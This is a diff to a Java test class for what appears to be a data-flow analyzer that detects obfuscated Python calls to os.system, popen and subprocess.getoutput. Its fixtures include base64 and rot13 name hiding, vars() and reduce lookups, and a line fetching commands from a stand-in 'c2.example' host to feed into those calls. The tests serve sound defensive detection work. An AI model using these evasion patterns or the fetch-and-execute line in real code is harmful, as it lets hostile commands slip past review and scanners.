@@ -865,6 +865,21 @@ class DataFlowTest {
                       "f = getattr(m, codecs.encode('flfgrz', 'rot13'))",
                       "f('id')")))
           .contains(4);
+      String imported =
+          lines(
+              "import base64, importlib",
+              "m = importlib.import_module(base64.b64decode(b'b3M=').decode())");
+      // an attribute of the module found, and a copy of it, are found by it
+      assertThat(
+              reached("calls-decoded-name", imported + lines("f = m.system", "g = f", "g('id')")))
+          .contains(5);
+      assertThat(reached("calls-decoded-name", imported + lines("m.popen('id')"))).contains(3);
+      // a list a looked-up value was put into is still a list
+      assertThat(
+              reached(
+                  "calls-decoded-name",
+                  imported + lines("seen = []", "seen.append(m.name)", "seen.append('posix')")))
+          .isEmpty();
       assertThat(
               reached(
                   "calls-decoded-name",
@@ -910,7 +925,11 @@ class DataFlowTest {
           "getattr(os, 'metsys'[::-1])(c)",
           "getattr(builtins, 'ex' + 'EC'.casefold())(c)",
           "pkgutil.resolve_name('os:system')(c)",
-          "resolve_name('sub' 'process:getoutput')(c)"
+          "resolve_name('sub' 'process:getoutput')(c)",
+          "vars(os)['sys' + 'tem'](c)",
+          "vars(subprocess).get('get' 'output')(c)",
+          "functools.reduce(getattr, ['sys' + 'tem'], os)(c)",
+          "reduce(getattr, ('po' 'pen',), os)(c)"
         })
     void aNameLookedUpByJoinedLiteralsIsTheName(String call) {
       String fetched = lines("import os, requests", "c = requests.get('https://c2.example').text");
